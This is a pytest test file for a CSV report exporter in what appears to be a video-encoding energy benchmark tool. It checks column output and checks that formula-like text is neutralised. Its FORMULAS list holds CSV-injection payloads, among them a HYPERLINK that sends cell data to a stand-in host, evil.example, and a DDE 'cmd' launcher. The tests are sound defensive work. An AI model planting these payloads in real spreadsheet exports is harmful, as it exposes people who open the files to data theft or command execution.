"""Tests of master.reports.tabular: results.csv."""

import csv
import io

import pytest

from master.reports.tabular import COLUMNS, csv_text
from tests.master.conftest import job_spec


def rows_of(text: str) -> list[dict]:
    """The CSV text parsed into dict rows."""
    return list(csv.DictReader(io.StringIO(text)))


def test_header_and_one_row_per_job(report_dir, run):
    """The header is COLUMNS; there is one row per job."""
    text = (report_dir / "results.csv").read_text(encoding="utf-8")
    header = next(csv.reader(io.StringIO(text)))
    assert tuple(header) == COLUMNS
    assert len(rows_of(text)) == len(run["jobs"]) == 7


def test_numeric_cells_parse_back(run):
    """Numbers are written so that they parse back to the result's values."""
    row = rows_of(csv_text(run))[0]
    assert float(row["joules_per_frame"]) == pytest.approx(0.69908)
    assert int(row["frames"]) == 120
    assert (row["node"], row["encoder"], row["bitrate"], row["estimated"]) == ("dev1", "libx264", "3000k", "true")
    assert row["kind"] == "transcode"
    assert row["sources"] == "estimate:cpu-time"


def test_missing_value_is_an_empty_cell_with_its_reason(run):
    """The missing idle watts of x265-fast#2 is empty (not 0) and the missing column says why."""
    row = next(r for r in rows_of(csv_text(run)) if r["job"] == "j-0006")
    assert row["idle_watts"] == "" and row["dynamic_energy_j"] == ""
    assert "idle_watts: idle baseline invalid" in row["missing"]
    assert row["sources"] == "rapl:package-0;rapl:dram-0" and row["estimated"] == "false"


def test_failed_job_row_has_error_and_no_numbers(run):
    """The failed NVENC job has its error and empty energy cells."""
    row = next(r for r in rows_of(csv_text(run)) if r["job"] == "j-0007")
    assert row["state"] == "failed"
    assert row["error"].startswith("encoder unavailable: h264_nvenc")
    assert row["total_energy_j"] == "" and row["joules_per_frame"] == ""


def test_job_without_result_gets_a_row(run):
    """A queued job without result is still a row, with empty metrics."""
    run["jobs"].append({"id": "j-0008", "name": "x", "state": "queued", "result": None})
    row = rows_of(csv_text(run))[-1]
    assert (row["job"], row["state"], row["fps"], row["node"]) == ("j-0008", "queued", "", "")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1", "\r=1"]
"""Text a spreadsheet would run as a formula (OWASP CSV injection)."""


def test_formula_text_is_neutralised_and_numbers_stay_numbers(run):
    """Scenario, variant, job name, error, missing reasons, source and host names starting with = + - @ tab or CR
    get a leading quote; a negative number stays a number."""
    job = run["jobs"][0]
    for key, text in zip(("scenario", "variant", "name", "error"), FORMULAS):
        job[key] = text
    job["result"]["missing"] = {"@x": "=reason"}
    job["result"]["provenance"]["sources"][0]["name"] = "-source"
    job["result"]["metrics"]["dynamic_energy_j"] = -1.5
    run["nodes"][0]["hostname"] = "=host"
    row = rows_of(csv_text(run))[0]
    assert [row[c] for c in ("scenario", "variant", "job_name", "error")] == ["'" + t for t in FORMULAS[:4]]
    assert (row["missing"], row["sources"], row["node"]) == ("'@x: =reason", "'-source", "'=host")
    assert row["dynamic_energy_j"] == "-1.5"


@pytest.mark.parametrize("text", FORMULAS[4:])
def test_tab_and_carriage_return_starts_are_neutralised(run, text):
    """A cell starting with a tab or a carriage return is quoted too."""
    run["jobs"][0]["variant"] = text
    assert rows_of(csv_text(run))[0]["variant"] == "'" + text


def test_report_csv_from_the_api_is_neutralised(client, node, make_campaign):
    """GET /campaigns/<id>/report.csv: a job named like a formula, a formula host and error are quoted; a negative
    dynamic energy stays -1.5."""
    cid = make_campaign(jobs=[job_spec("=HYPERLINK(1)#1", encoder="libx264"), job_spec("+1#1", encoder="libx264")])
    n = node("@SUM(1+1)")
    for status, extra in (("succeeded", {"metrics": {"dynamic_energy_j": -1.5}}), ("failed", {"error": "-cmd"})):
        job = client.get(f"/jobs/next?node_id={n.id}&wait=0", headers=n.headers).get_json()["job"]
        body = {"job_id": job["id"], "attempt": job["attempt"], "node_id": n.id, "status": status, **extra}
        assert client.post("/results", json=body, headers=n.headers).status_code == 200
    rows = rows_of(client.get(f"/campaigns/{cid}/report.csv").get_data(as_text=True))
    assert [(r["job_name"], r["node"]) for r in rows] == [("'=HYPERLINK(1)#1", "'@SUM(1+1)"), ("'+1#1", "'@SUM(1+1)")]
    assert (rows[0]["dynamic_energy_j"], rows[1]["error"]) == ("-1.5", "'-cmd")


def test_line_break_inside_a_cell_cannot_start_a_row(run):
    """An error with a CR or LF before a formula stays inside its quoted cell: no extra row, the text kept."""
    run["jobs"][0]["error"] = "ok\r=1+1"
    run["jobs"][1]["error"] = "ok\n@SUM(1)"
    rows = rows_of(csv_text(run))
    assert len(rows) == len(run["jobs"])
    assert (rows[0]["error"], rows[1]["error"]) == ("ok\r=1+1", "ok\n@SUM(1)")
